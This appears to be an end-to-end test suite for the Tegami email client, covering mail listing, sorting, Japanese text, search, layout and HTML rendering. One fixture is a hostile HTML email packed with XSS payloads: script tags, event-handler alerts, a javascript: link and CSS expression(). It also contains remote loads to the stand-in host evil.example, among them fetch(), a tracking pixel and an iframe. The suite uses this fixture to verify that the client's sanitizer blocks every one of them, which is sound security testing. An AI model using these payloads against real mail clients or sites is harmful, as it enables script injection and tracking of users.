// The reading app end to end: alice's seeded INBOX in browser mode (list, sort, Japanese mail, search,
// keyboard), and a hostile HTML message (appended to heidi's empty account, which this file owns)
// that must neither run anything nor make a single network request.
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { subjectSortKey } from '../../electron/engine/db/subject.js';
import { connectImap } from '../dovecot/client.js';
import { addAccount, closeAll, invoke, launchChromium, openAppPage, screenshot, startTegamiWeb, type TegamiWeb } from './browser.js';

const server = inject('dovecot');

let browser: Browser;
let tegami: TegamiWeb;
let page: Page;
const requests: string[] = [];
const dialogs: string[] = [];
const consoleLines: string[] = [];
let aliceId = 0;
let heidiId = 0;

const HOSTILE_SUBJECT = 'Hostile newsletter (e2e)';
const hostileHtml = `<!doctype html><html><head>
<meta http-equiv="refresh" content="0; url=http://evil.example/refresh">
<base href="http://evil.example/">
<link rel="stylesheet" href="http://evil.example/style.css">
<style>@import url("http://evil.example/import.css"); body { background: url(http://evil.example/bg.png); } .x { color: rgb(200, 0, 0) }</style>
<script>document.title = 'PWNED'; alert('PWNED-script'); console.log('PWNED-console'); fetch('http://evil.example/fetch');</script>
</head><body onload="alert('PWNED-onload')">
<h1 class="x" style="font-size: 30px; background-image: url('http://evil.example/inline-bg.png')">Hostile newsletter body</h1>
<p>Tracking pixel: <img src="http://evil.example/pixel.gif?u=alice" width="1" height="1"></p>
<img src="x" onerror="alert('PWNED-onerror')">
<img srcset="http://evil.example/srcset.png 2x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
<a id="js" href="javascript:alert('PWNED-link')">javascript link</a>
<a id="ok" href="https://example.com/safe">safe link</a>
<form action="http://evil.example/form" method="post"><input name="q" autofocus onfocus="alert('PWNED-focus')"><button>Send</button></form>
<svg><script>alert('PWNED-svg')</script><image href="http://evil.example/svg.png"/></svg>
<iframe src="http://evil.example/frame"></iframe>
<object data="http://evil.example/object.swf"></object>
<video poster="http://evil.example/poster.png" src="http://evil.example/video.mp4"></video>
<table background="http://evil.example/table.png"><tr><td>cell</td></tr></table>
<div style="width: expression(alert('PWNED-css'))">expression</div>
</body></html>`;

function hostileMessage(): string {
  return [
    'From: Evil Sender <evil@evil.example>',
    'To: heidi@tegami.test',
    `Subject: ${HOSTILE_SUBJECT}`,
    `Date: ${new Date().toUTCString()}`,
    'Message-ID: <hostile-e2e@tegami.test>',
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=UTF-8',
    'Content-Transfer-Encoding: 8bit',
    '',
    hostileHtml,
    '',
  ].join('\r\n');
}

const WIDE_SUBJECT = 'A newsletter wider than the pane';
/** A table-layout newsletter 1,400 px wide, taller than the pane. */
function wideMessage(): string {
  const rows = Array.from({ length: 60 }, (_, i) => `<tr><td>Row ${i + 1}</td><td>News item ${i + 1}</td></tr>`).join('');
  return [
    'From: News <news@example.com>',
    'To: heidi@tegami.test',
    `Subject: ${WIDE_SUBJECT}`,
    `Date: ${new Date().toUTCString()}`,
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    `<table width="1400" style="width:1400px">${rows}</table><p>The end.</p>`,
    '',
  ].join('\r\n');
}

const folder = (accountId: number, p: string) => page.locator(`[role="treeitem"][data-account-id="${accountId}"][data-path="${p}"]`);
const list = () => page.getByTestId('message-list');
const rows = () => list().locator('[data-testid="message-row"]');
const subjects = () => rows().locator('.subject').allInnerTexts();
const selectedSubject = async () => (await list().locator('[data-testid="message-row"][aria-selected="true"] .subject').allInnerTexts())[0];

beforeAll(async () => {
  tegami = await startTegamiWeb();
  // heidi's account is empty and owned by this file: put the hostile message there.
  const imap = await connectImap(server, 'heidi', 'tls');
  try {
    await imap.append('INBOX', hostileMessage(), []);
    await imap.append('INBOX', wideMessage(), []);
  } finally {
    await imap.logout();
  }
  aliceId = await addAccount(tegami, server, 'alice');
  heidiId = await addAccount(tegami, server, 'heidi');

  browser = await launchChromium();
  ({ page } = await openAppPage(browser, tegami, requests));
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('console', (m) => consoleLines.push(m.text()));
  await page.goto(tegami.web.url);
});

afterAll(async () => {
  await closeAll({ browser, tegami });
});

describe('reading mail in the browser', () => {
  it('opens INBOX in three panes and shows a virtualized list', async () => {
    await expect.poll(() => folder(aliceId, 'INBOX').isVisible(), { timeout: 20_000 }).toBe(true);
    await folder(aliceId, 'INBOX').click();
    await expect.poll(() => rows().count(), { timeout: 20_000 }).toBeGreaterThan(10);
    // The grid's row count is the folder's stored count (header row + messages), once the last page is read.
    const inbox = (await tegami.engine.invoke('mailboxes.list', { accountId: aliceId })) as {
      ok: true;
      value: { mailboxes: { id: number; path: string }[] };
    };
    const inboxId = inbox.value.mailboxes.find((m) => m.path === 'INBOX')!.id;
    let stored = 0;
    for (let after = null, more = true; more;) {
      const r = (await tegami.engine.invoke('messages.page', { mailboxId: inboxId, after, limit: 500 })) as {
        ok: true;
        value: { messages: unknown[]; next: null };
      };
      stored += r.value.messages.length;
      after = r.value.next;
      more = after !== null;
    }
    expect(stored).toBeGreaterThan(100);
    await expect.poll(() => list().getAttribute('aria-rowcount')).toBe(String(stored + 1));
    // Only the visible rows (plus overscan) are in the DOM, not all ~211.
    expect(await rows().count()).toBeLessThan(80);
    await expect.poll(() => page.getByTestId('sync-status').first().getAttribute('data-state')).toMatch(/idle|syncing|stopped|connecting/);
    await screenshot(page, 'reading-inbox-light-en');
  });

  it('sorts by subject, and by date showing the dates it sorts by', async () => {
    // Scrolled down: a new order starts at its top.
    await page.getByTestId('message-list').evaluate((el) => {
      el.scrollTop = 2000;
    });
    await expect.poll(() => page.getByTestId('message-list').evaluate((el) => el.scrollTop)).toBe(2000);
    await page.locator('[data-sort="subject"]').click();
    await expect.poll(() => page.getByTestId('message-list').evaluate((el) => el.scrollTop)).toBe(0);
    await expect.poll(() => page.locator('[role="columnheader"][aria-sort]').innerText()).toContain('Subject');
    expect(await page.locator('[role="columnheader"][aria-sort]').getAttribute('aria-sort')).toBe('ascending');
    await expect
      .poll(async () => {
        const s = (await subjects()).slice(0, 15).map(subjectSortKey); // natural order: numbers by value
        return s.every((x, i) => i === 0 || (s[i - 1] ?? '') <= x);
      })
      .toBe(true);
    // Back to newest first.
    await page.locator('[data-sort="date"]').click();
    await expect.poll(() => page.locator('[role="columnheader"][aria-sort]').getAttribute('aria-sort')).toBe('descending');
    // The dates shown are the ones the list is sorted by (when each message arrived), newest first,
    // not the Date headers: INBOX holds a 2002 corpus delivered today.
    const thisYear = new Date().getFullYear();
    /** The list shows the year only for another year's mail: the year it shows is the date's. */
    const showsDate = (c: { date: string; text: string }) => {
      const year = new Date(c.date).getFullYear();
      return year === thisYear ? !/\b(19|20)\d\d\b/.test(c.text) : c.text.includes(String(year));
    };
    await expect
      .poll(async () => {
        const cells = await rows()
          .locator('.col-date')
          .evaluateAll((els) => els.slice(0, 20).map((e) => ({ date: e.getAttribute('data-date') ?? '', text: e.textContent ?? '' })));
        const times = cells.map((c) => Date.parse(c.date));
        return cells.length > 10 && times.every((t, i) => i === 0 || t <= (times[i - 1] as number)) && cells.every(showsDate);
      })
      .toBe(true);

    // Dates as sent, chosen in the settings: the column says so, and shows and sorts by the Date
    // headers (2002 for the corpus), as the engine pages them.
    const listDates = async (value: 'sent' | 'received') => {
      await page.getByTestId('settings-button').click();
      await page.getByTestId('list-date-select').selectOption(value);
      await page.getByTestId('settings-button').click(); // closes the panel
    };
    await listDates('sent');
    try {
      await checkSentDates();
    } finally {
      await listDates('received');
    }
    await expect.poll(() => page.locator('[role="columnheader"][aria-sort]').innerText()).toContain('Date');
  });
  async function checkSentDates() {
    const showsDate = (c: { date: string; text: string }) => {
      const year = new Date(c.date).getFullYear();
      return year === new Date().getFullYear() ? !/\b(19|20)\d\d\b/.test(c.text) : c.text.includes(String(year));
    };
    const dates = () =>
      rows()
        .locator('.col-date')
        .evaluateAll((els) => els.map((e) => ({ date: e.getAttribute('data-date') ?? '', text: e.textContent ?? '' })));
    await expect.poll(() => page.locator('[role="columnheader"][aria-sort]').innerText()).toContain('Sent');
    expect(await page.locator('[data-sort="date"]').getAttribute('title')).toBe('Sort by when each message was sent (its Date header)');
    const { mailboxes } = await invoke<{ mailboxes: { id: number; path: string }[] }>(tegami, 'mailboxes.list', { accountId: aliceId });
    const inbox = mailboxes.find((m) => m.path === 'INBOX')?.id;
    const { messages } = await invoke<{ messages: Array<{ date: string; sentDate: string | null }> }>(tegami, 'messages.page', {
      mailboxId: inbox,
      sort: 'sent',
      limit: 30,
    });
    const sent = messages.map((m) => new Date(m.sentDate ?? m.date).toISOString());
    expect(sent.some((d) => d.startsWith('2002'))).toBe(true); // the corpus, below the newer mail
    // The rows in view (the list renders only those) are the engine's first, in its order.
    await expect
      .poll(
        async () => {
          const shown = (await dates()).map((c) => c.date);
          return shown.length >= 15 && shown.every((d, i) => d === sent[i]);
        },
        { timeout: 10_000 },
      )
      .toBe(true);
    expect((await dates()).every(showsDate)).toBe(true);
    await screenshot(page, 'reading-sent-dates');
  }

  it('moves the selection with j and k', async () => {
    await rows().first().click();
    const first = await selectedSubject();
    await page.keyboard.press('j');
    await expect.poll(selectedSubject).not.toBe(first);
    const second = await selectedSubject();
    await page.keyboard.press('j');
    await expect.poll(selectedSubject).not.toBe(second);
    await page.keyboard.press('k');
    await expect.poll(selectedSubject).toBe(second);
    expect(await list().locator('[aria-selected="true"]').count()).toBe(1);
  });

  it('shows the Japanese body of the ISO-2022-JP message', async () => {
    const row = rows().filter({ hasText: '来週の会議について（ISO-2022-JP）' });
    await expect.poll(() => row.count(), { timeout: 10_000 }).toBe(1);
    await row.click();
    await expect.poll(() => page.getByTestId('reader-subject').innerText()).toBe('来週の会議について（ISO-2022-JP）');
    await expect
      .poll(() => page.getByTestId('message-text').innerText(), { timeout: 20_000 })
      .toContain('来週の会議は水曜日の午後三時からに変更になりました');
    expect(await page.getByTestId('reader-from').innerText()).toContain('山田 花子');
    expect(await page.getByTestId('reader-from').locator('[title]').getAttribute('title')).toContain('yamada@example.jp');
    // No Reply-To header: the ENVELOPE's copy of From is not shown as one.
    expect(await page.getByTestId('reader').locator('dt', { hasText: 'Reply to' }).count()).toBe(0);
    // Delivered when it was sent: one date.
    expect(await page.getByTestId('reader-received').count()).toBe(0);
  });

  it('shows when a message arrived too, when its Date header is far from it (the list’s date)', async () => {
    // The 2002 corpus was delivered today: the list dates it today, its Date header says 2002.
    const row = rows().filter({ hasText: 'A little Investment' });
    await expect.poll(() => row.count(), { timeout: 10_000 }).toBeGreaterThan(0);
    await row.first().click();
    await expect.poll(() => page.getByTestId('reader-received').count(), { timeout: 10_000 }).toBe(1);
    const listed = await row.first().locator('.col-date').getAttribute('data-date');
    const received = await page.getByTestId('reader-received').locator('dd').getAttribute('title');
    expect(new Date(listed ?? '').getFullYear()).toBe(new Date().getFullYear());
    expect(received).toContain(String(new Date().getFullYear()));
    expect(
      await page.getByTestId('reader').locator('dt', { hasText: 'Date' }).locator('xpath=following-sibling::dd').innerText(),
    ).toContain('2002');
  });

  it('shows the HTML newsletter without loading its tracking pixel', async () => {
    const before = requests.length;
    await rows().filter({ hasText: 'Weekly newsletter: text and HTML' }).click();
    const frame = page.frameLocator('[data-testid="html-frame"]');
    await expect.poll(() => frame.locator('h1').innerText(), { timeout: 20_000 }).toBe('This week in Tegami');
    expect(await page.getByTestId('html-frame').getAttribute('sandbox')).toBe('allow-same-origin');
    await expect.poll(() => page.getByTestId('remote-bar').innerText()).toMatch(/Remote content blocked/);
    expect(requests.slice(before)).toEqual([]);
  });

  it('finds the Japanese message when searching for 会議', async () => {
    await page.keyboard.press('/');
    await expect.poll(() => page.evaluate('document.activeElement?.getAttribute("data-testid")')).toBe('search-input');
    await page.keyboard.type('会議');
    const results = page.getByTestId('search-results');
    await expect.poll(() => results.innerText(), { timeout: 10_000 }).toContain('来週の会議について（ISO-2022-JP）');
    // Results span folders: each row names its folder.
    const hit = results.locator('[data-testid="message-row"]').filter({ hasText: '来週の会議について（ISO-2022-JP）' });
    expect(await hit.getByTestId('row-folder').innerText()).toBe('INBOX');
    // Whole, not cut to "I…" beside the long subject: the subject gives way first.
    expect(await hit.getByTestId('row-folder').evaluate((e) => e.scrollWidth <= e.clientWidth)).toBe(true);
    await screenshot(page, 'reading-search-en');
    await page.getByTestId('search-input').press('Escape');
    await expect.poll(() => list().isVisible()).toBe(true);
  });

  it('filters the folder when the search has filters only (has:attachment)', async () => {
    await folder(aliceId, 'INBOX').click();
    const { mailboxes } = await invoke<{ mailboxes: { id: number; path: string }[] }>(tegami, 'mailboxes.list', { accountId: aliceId });
    const mailboxId = mailboxes.find((m) => m.path === 'INBOX')?.id;
    const { count } = await invoke<{ count: number }>(tegami, 'messages.count', { mailboxId, hasAttachments: true });
    expect(count).toBeGreaterThan(0);
    await page.keyboard.press('/');
    await page.keyboard.type('has:attachment');
    await expect.poll(() => list().getAttribute('aria-rowcount'), { timeout: 10_000 }).toBe(String(count + 1));
    await page.getByTestId('search-input').press('Escape');
    await expect.poll(() => list().getAttribute('aria-rowcount')).not.toBe(String(count + 1));
    // is:read alone, likewise: the read messages, every row read.
    const read = (await invoke<{ count: number }>(tegami, 'messages.count', { mailboxId, read: true })).count;
    const all = (await invoke<{ count: number }>(tegami, 'messages.count', { mailboxId })).count;
    expect(read).toBeGreaterThan(0);
    expect(read).toBeLessThan(all);
    await page.keyboard.press('/');
    await page.keyboard.type('is:read');
    await expect.poll(() => list().getAttribute('aria-rowcount'), { timeout: 10_000 }).toBe(String(read + 1));
    expect(await list().locator('[data-testid="message-row"].unread').count()).toBe(0);
    await page.getByTestId('search-input').press('Escape');
    await expect.poll(() => list().getAttribute('aria-rowcount')).toBe(String(all + 1));
  });

  it('fits a narrow window: nothing wider than it, the list and the message both shown, the message readable', async () => {
    const before = page.viewportSize();
    await folder(aliceId, 'INBOX').click();
    await rows().first().click();
    try {
      for (const width of [900, 800, 700, 600]) {
        await page.setViewportSize({ width, height: 700 });
        const layout = async () => {
          const listBox = await list().boundingBox();
          const readerBox = await page.getByTestId('reader').boundingBox();
          const dateBox = await rows().first().locator('.col-date').boundingBox();
          return {
            overflow: (await page.evaluate('document.documentElement.scrollWidth - window.innerWidth')) as number,
            list: Math.round(listBox?.width ?? 0),
            reader: Math.round(readerBox?.width ?? 0),
            listBottom: Math.round((listBox?.y ?? 0) + (listBox?.height ?? 0)),
            readerTop: Math.round(readerBox?.y ?? 0),
            // The message is not cut off at the window's edge, and the list still shows each row's date.
            readerRight: Math.round((readerBox?.x ?? 0) + (readerBox?.width ?? 0)),
            dateInList:
              dateBox !== null && listBox !== null && dateBox.width > 0 && dateBox.x + dateBox.width <= listBox.x + listBox.width + 1,
          };
        };
        await expect.poll(async () => (await layout()).overflow).toBeLessThanOrEqual(0);
        const l = await layout();
        expect(l.list, `${width} px`).toBeGreaterThanOrEqual(160);
        expect(l.readerRight, `${width} px`).toBeLessThanOrEqual(width);
        if (width > 860) {
          // Side by side, the message gets the room first: about half the pane at least.
          expect(l.reader, `${width} px`).toBeGreaterThanOrEqual(0.45 * (l.list + l.reader));
        } else {
          // Narrower, the message goes below the list, as wide as it.
          expect(l.readerTop, `${width} px`).toBeGreaterThanOrEqual(l.listBottom - 1);
          expect(Math.abs(l.reader - l.list), `${width} px`).toBeLessThanOrEqual(12);
          expect(l.reader, `${width} px`).toBeGreaterThanOrEqual(360);
        }
        // Down to 800 px the list keeps each row's date (its Size column gives way first).
        if (width >= 800) expect(l.dateInList, `${width} px`).toBe(true);
        await screenshot(page, `reading-narrow-${width}`);
      }
    } finally {
      if (before) await page.setViewportSize(before);
    }
  });

  it('takes screenshots in dark mode and in Japanese', async () => {
    await page.emulateMedia({ colorScheme: 'dark' });
    await rows().filter({ hasText: '来週の会議について（ISO-2022-JP）' }).click();
    await expect.poll(() => page.getByTestId('message-text').isVisible()).toBe(true);
    await screenshot(page, 'reading-inbox-dark-en');
    await page.getByTestId('settings-button').click();
    await page.getByTestId('language-select').selectOption('ja');
    await page.getByTestId('settings-button').click();
    await expect.poll(() => page.locator('[data-sort="subject"]').innerText()).toBe('件名');
    await screenshot(page, 'reading-inbox-dark-ja');
    await page.emulateMedia({ colorScheme: 'light' });
    await screenshot(page, 'reading-inbox-light-ja');
    await page.getByTestId('settings-button').click();
    await page.getByTestId('language-select').selectOption('en');
    await page.getByTestId('settings-button').click();
  });

  it('scrolls wide HTML mail sideways in its frame, with no second vertical scrollbar inside', async () => {
    await expect.poll(() => folder(heidiId, 'INBOX').isVisible(), { timeout: 20_000 }).toBe(true);
    await folder(heidiId, 'INBOX').click();
    await rows().filter({ hasText: WIDE_SUBJECT }).click();
    const frame = page.frameLocator('[data-testid="html-frame"]');
    await expect.poll(() => frame.locator('p', { hasText: 'The end.' }).count(), { timeout: 20_000 }).toBe(1);
    const fit = () =>
      frame.locator('html').evaluate((html) => ({
        wide: html.scrollWidth > html.clientWidth,
        hiddenBelow: html.scrollHeight - html.clientHeight,
      }));
    await expect.poll(fit).toEqual({ wide: true, hiddenBelow: 0 });
    await screenshot(page, 'reading-wide-html');
  });

  it('shows hostile HTML with no script, no dialog and no network request', async () => {
    await expect.poll(() => folder(heidiId, 'INBOX').isVisible(), { timeout: 20_000 }).toBe(true);
    const before = requests.length;
    const consoleBefore = consoleLines.length;
    await folder(heidiId, 'INBOX').click();
    // What the app's CSP refuses while the mail is parsed (reported, never applied or run).
    await page.evaluate(
      "window.violations = []; document.addEventListener('securitypolicyviolation', (e) => window.violations.push(e.violatedDirective));",
    );
    await rows().filter({ hasText: HOSTILE_SUBJECT }).click();
    const frameEl = page.getByTestId('html-frame');
    const frame = page.frameLocator('[data-testid="html-frame"]');
    await expect.poll(() => frame.locator('h1').innerText(), { timeout: 20_000 }).toBe('Hostile newsletter body');
    // Styles from the mail apply (through the CSSOM), remote references in them do not.
    await expect.poll(() => frame.locator('h1').evaluate((h) => h.ownerDocument.defaultView?.getComputedStyle(h).fontSize)).toBe('30px');
    expect(await frame.locator('h1').evaluate((h) => h.ownerDocument.defaultView?.getComputedStyle(h).color)).toBe('rgb(200, 0, 0)');
    expect(await frameEl.getAttribute('sandbox')).not.toContain('allow-scripts');
    // Nothing dangerous survived sanitizing.
    const dom = await frame.locator('html').evaluate((html) => ({
      scripts: html.querySelectorAll('script').length,
      forms: html.querySelectorAll('form, input, button').length,
      frames: html.querySelectorAll('iframe, object, embed, video, svg').length,
      meta: html.querySelectorAll('meta[http-equiv="refresh"], base, link').length,
      handlers: [...html.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => a.name)).filter((n) => n.startsWith('on'))
        .length,
      jsLinks: [...html.querySelectorAll('a')].filter((a) => /javascript:/i.test(a.getAttribute('href') ?? '')).length,
      remote: /evil\.example/.test(html.outerHTML.replace(/data-tegami-remote="[^"]*"/g, '')),
    }));
    expect(dom).toEqual({ scripts: 0, forms: 0, frames: 0, meta: 0, handlers: 0, jsLinks: 0, remote: false });
    await expect.poll(() => page.getByTestId('remote-bar').innerText()).toMatch(/Remote content blocked/);
    // Give anything that might fire (refresh, onerror, lazy images) time to do so.
    await page.waitForTimeout(1500);
    expect(requests.slice(before)).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(consoleLines.slice(consoleBefore).filter((l) => /PWNED|evil\.example/.test(l))).toEqual([]);
    // Its style attributes and event handlers were renamed before parsing (renameStyleAttributes):
    // none reached the page's parser, so the CSP had none to refuse. (A <style> element still is
    // parsed there, and reported as style-src-elem: its CSS is applied through the CSSOM.)
    const violations = (await page.evaluate('window.violations')) as string[];
    expect(violations.filter((d) => d !== 'style-src-elem')).toEqual([]);
    expect(await page.title()).toBe('Tegami');
    await screenshot(page, 'reading-hostile-html');
  });

  it('goes to the last message of a large folder with End and selects it, though its row was not read yet', async () => {
    const LONG = 1200; // more than the list reads ahead at first (a page of rows plus 500)
    const imap = await connectImap(server, 'heidi', 'tls');
    try {
      await imap.mailboxCreate('Long');
      await imap.mailboxSubscribe('Long');
      for (let i = 1; i <= LONG; i++) {
        const n = String(i).padStart(4, '0');
        const raw = `From: Long <long@example.com>\r\nTo: heidi@tegami.test\r\nSubject: Long ${n}\r\nMessage-ID: <long${n}@e2e.test>\r\n\r\nNumber ${n}.\r\n`;
        await imap.append('Long', raw, ['\\Seen'], new Date(Date.UTC(2025, 0, 1) + i * 60_000));
      }
    } finally {
      await imap.logout();
    }
    await invoke(tegami, 'mailboxes.refresh', { accountId: heidiId });
    await invoke(tegami, 'sync.run', { accountId: heidiId });
    await expect.poll(() => folder(heidiId, 'Long').count(), { timeout: 10_000 }).toBe(1);
    await folder(heidiId, 'Long').click();
    await expect.poll(() => page.getByTestId('list-count').innerText(), { timeout: 10_000 }).toContain('1,200');
    await rows().filter({ hasText: 'Long 1200' }).click(); // newest first
    await page.keyboard.press('End');
    // One press: the oldest is selected (and opened) once its row arrives, not on a second press.
    await expect.poll(selectedSubject, { timeout: 10_000 }).toBe('Long 0001');
    await page.keyboard.press('Home');
    await expect.poll(selectedSubject, { timeout: 10_000 }).toBe('Long 1200');
  });
});
